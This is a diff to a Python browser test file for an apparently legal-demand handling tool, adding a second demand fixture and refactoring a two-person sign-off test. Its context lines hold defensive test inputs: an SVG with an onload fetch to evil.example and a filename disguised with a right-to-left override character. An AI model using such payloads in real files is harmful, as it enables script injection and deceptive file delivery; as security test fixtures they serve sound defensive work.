@@ -31,6 +31,7 @@ axe_playwright = pytest.importorskip("axe_playwright_python.sync_playwright", re
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
 DEMAND = Path(__file__).resolve().parents[2] / "src/dueprocess/cli/story/demands/02-no-provision.eml"
+ANOTHER = DEMAND.with_name("01-subscriber-talbach.eml")
 PDF = Path(__file__).resolve().parents[1] / "golden/demands/us-pdf-subpoena.pdf"
 HOSTILE = {
     "annex\u202egpj.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('https://evil.example/?svg')\">"
@@ -111,12 +112,8 @@ def taken(practice: Practice, tmp_path_factory: pytest.TempPathFactory) -> dict[
     """Cases by file, taken in while the desk is served: a demand of the story, and hostile ones."""
     folder = tmp_path_factory.mktemp("arrived")
     found = {}
-    for name, data in {
-        DEMAND.name: DEMAND.read_bytes(),
-        **HOSTILE,
-        "scan.png": POLYGLOT,
-        PDF.name: PDF.read_bytes(),
-    }.items():
+    whole = {one.name: one.read_bytes() for one in (DEMAND, ANOTHER, PDF)}
+    for name, data in {**whole, **HOSTILE, "scan.png": POLYGLOT}.items():
         (folder / name).write_bytes(data)
     environ = {**os.environ, "DUEPROCESS_HOME": str(practice.home), "HOME": str(practice.home.parent)}
     command = Path(sys.executable).with_name("dueprocess")
@@ -262,7 +259,10 @@ class Client:
         return statement.hash_of(signed)
 
 
-def test_the_second_person_sees_what_the_first_one_signed(practice: Practice, vault: Vault, case: str) -> None:
+def test_the_second_person_sees_what_the_first_one_signed(
+    practice: Practice, vault: Vault, taken: dict[str, str]
+) -> None:
+    case = taken[ANOTHER.name]  # the other one's facts birch has confirmed: who verified does not approve
     aster, birch = Client(practice, "aster"), Client(practice, "birch")
     proposal = {"ground": "counsel", "item": 1, "lines": [], "outcome": "refuse"}
     hash_ = aster.do(case, "decision.propose", proposal)
